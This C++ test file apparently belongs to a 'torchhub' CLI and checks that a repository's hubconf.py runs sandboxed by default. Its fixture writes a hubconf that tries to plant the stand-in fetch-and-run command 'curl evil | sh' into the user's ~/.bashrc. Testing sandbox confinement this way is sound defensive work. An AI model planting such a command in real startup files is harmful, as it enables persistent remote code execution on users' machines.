// `torchhub list|help|load` end to end, sandboxed by default (--sandbox is
// accepted, --no-sandbox opts out): the light binary hands the request to
// torchhub-python, which runs itself again, confined, as the sandbox's
// worker (hub/sandbox/sandbox.h).
#include <cstdlib>
#include <filesystem>
#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "hub/base/status_matchers.h"
#include "hub/base/test_dirs.h"
#include "hub/sandbox/sandbox_testing.h"
#include "tests/servers/subprocess.h"

namespace hub {
namespace {

using ::hub::testing::CommandResult;
using ::hub::testing::RunCommand;
using ::hub::testing::TestDir;
using ::hub::testing::WriteTestFile;
using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::Not;

class SandboxCliTest : public ::testing::Test {
 protected:
  void SetUp() override {
    root_ = TestDir("machine");
    home_ = absl::StrCat(root_, "/home");
    hub_dir_ = absl::StrCat(root_, "/hub");
    repo_dir_ = absl::StrCat(hub_dir_, "/owner_models_main");
    planted_ = absl::StrCat(home_, "/.bashrc");
    std::filesystem::create_directories(home_);
    // The hubconf tells which way its write into the home went by the name
    // of the entry it defines.
    WriteTestFile(absl::StrCat(repo_dir_, "/hubconf.py"),
                  absl::StrCat("try:\n"
                               "    open('",
                               planted_,
                               "', 'w').write('curl evil | sh')\n"
                               "    def wrote_home():\n"
                               "        pass\n"
                               "except OSError:\n"
                               "    def home_untouched():\n"
                               "        '''It could not write into the home.'''\n"));
  }

  CommandResult Run(const std::vector<std::string>& args) {
    std::vector<std::string> argv = {"env", absl::StrCat("HOME=", home_),
                                     hub::testing::RunfilePath("hub/cli/torchhub"), "--hub-dir",
                                     hub_dir_};
    argv.insert(argv.end(), args.begin(), args.end());
    absl::StatusOr<CommandResult> r = RunCommand(argv, {.separate_stderr = true});
    EXPECT_TRUE(r.ok()) << r.status();
    return r.ok() ? *r : CommandResult{};
  }

  std::string root_;
  std::string home_;
  std::string hub_dir_;
  std::string repo_dir_;
  std::string planted_;
};

TEST_F(SandboxCliTest, ListRunsTheHubconfByDefaultWhereItCannotTouchTheHome) {
  const CommandResult r = Run({"list", repo_dir_, "--source", "local", "--no-cache"});
  if (!::hub::sandbox::BwrapNamespacesAvailable()) {
    EXPECT_NE(r.exit_code, 0);
    EXPECT_THAT(r.error_output, AllOf(HasSubstr("user namespaces"), HasSubstr("--sandbox")));
    return;
  }
  ASSERT_EQ(r.exit_code, 0) << r.error_output;
  EXPECT_EQ(r.output, "home_untouched\n");
  EXPECT_FALSE(std::filesystem::exists(planted_));
}

TEST_F(SandboxCliTest, HelpWithSandboxPrintsTheDocstring) {
  const CommandResult r =
      Run({"help", repo_dir_, "home_untouched", "--source", "local", "--no-cache", "--sandbox"});
  if (!::hub::sandbox::BwrapNamespacesAvailable()) {
    EXPECT_THAT(r.error_output, AllOf(HasSubstr("user namespaces"), HasSubstr("--sandbox")));
    return;
  }
  ASSERT_EQ(r.exit_code, 0) << r.error_output;
  EXPECT_THAT(r.output, HasSubstr("It could not write into the home."));
  EXPECT_FALSE(std::filesystem::exists(planted_));
}

TEST_F(SandboxCliTest, LoadWithSandboxBringsBackPlainDataAndLeavesTheHomeAlone) {
  const CommandResult r =
      Run({"load", repo_dir_, "home_untouched", "--source", "local", "--sandbox", "--json"});
  if (!::hub::sandbox::BwrapNamespacesAvailable()) {
    EXPECT_NE(r.exit_code, 0);
    EXPECT_THAT(r.error_output, AllOf(HasSubstr("user namespaces"), HasSubstr("--sandbox")));
    return;
  }
  ASSERT_EQ(r.exit_code, 0) << r.error_output;
  EXPECT_THAT(r.output, AllOf(HasSubstr("\"kind\":\"object\""), HasSubstr("\"repr\":\"None\"")));
  EXPECT_FALSE(std::filesystem::exists(planted_));
}

TEST_F(SandboxCliTest, TheWorkerIsStartedBeforeTorchhubPythonAndTakenOver) {
  // `torchhub` starts the worker before it execs torchhub-python, which
  // takes it over: the two start-ups run side by side.
  const CommandResult r = Run({"load", repo_dir_, "home_untouched", "--source", "local", "--json"});
  if (!::hub::sandbox::BwrapNamespacesAvailable()) {
    EXPECT_NE(r.exit_code, 0);
    return;
  }
  ASSERT_EQ(r.exit_code, 0) << r.error_output;
  EXPECT_THAT(r.output, AllOf(HasSubstr("\"sandboxed\":true"),
                              HasSubstr("\"sandbox_worker_started_early\":true")));
  EXPECT_FALSE(std::filesystem::exists(planted_));
  // Nothing of the worker's staging is left in the hub dir.
  for (const auto& e : std::filesystem::directory_iterator(hub_dir_ + "/.torchhub-cpp")) {
    EXPECT_THAT(e.path().filename().string(), Not(HasSubstr("sandbox-staging")));
  }

  // In-process: no worker, none started.
  const CommandResult in_process =
      Run({"load", repo_dir_, "wrote_home", "--source", "local", "--no-sandbox", "--json"});
  ASSERT_EQ(in_process.exit_code, 0) << in_process.error_output;
  EXPECT_THAT(in_process.output, AllOf(HasSubstr("\"sandboxed\":false"),
                                       HasSubstr("\"sandbox_worker_started_early\":false")));
}

TEST_F(SandboxCliTest, LoadWithSandboxRefusesAPythonObjectAndSaysHowToGetIt) {
  WriteTestFile(absl::StrCat(repo_dir_, "/hubconf.py"), "def tool():\n    return object()\n");
  const CommandResult r = Run({"load", repo_dir_, "tool", "--source", "local", "--sandbox"});
  if (!::hub::sandbox::BwrapNamespacesAvailable()) return;
  EXPECT_NE(r.exit_code, 0);
  EXPECT_THAT(r.error_output,
              AllOf(HasSubstr("cannot leave the sandbox"), HasSubstr("--no-sandbox")));
}

// The same hubconf with --no-sandbox does write: the tests above can fail.
TEST_F(SandboxCliTest, WithNoSandboxTheSameHubconfWritesIntoTheHome) {
  const CommandResult r =
      Run({"list", repo_dir_, "--source", "local", "--no-cache", "--no-sandbox"});
  ASSERT_EQ(r.exit_code, 0) << r.error_output;
  EXPECT_EQ(r.output, "wrote_home\n");
  EXPECT_TRUE(std::filesystem::exists(planted_));
}

TEST_F(SandboxCliTest, AMissingWorkerFailsAndSaysHowToRunWithoutTheSandbox) {
  std::vector<std::string> argv = {"env",
                                   "TORCHHUB_SANDBOX_WORKER=/nonexistent/worker",
                                   hub::testing::RunfilePath("hub/cli/torchhub"),
                                   "--hub-dir",
                                   hub_dir_,
                                   "list",
                                   repo_dir_,
                                   "--source",
                                   "local",
                                   "--no-cache",
                                   "--sandbox"};
  absl::StatusOr<CommandResult> r = RunCommand(argv, {.separate_stderr = true});
  ASSERT_TRUE(r.ok()) << r.status();
  EXPECT_NE(r->exit_code, 0);
  EXPECT_THAT(r->error_output, AllOf(HasSubstr("/nonexistent/worker"), HasSubstr("--no-sandbox")));
  EXPECT_THAT(r->output, Not(HasSubstr("wrote_home")));
  EXPECT_FALSE(std::filesystem::exists(planted_));
}

}  // namespace
}  // namespace hub
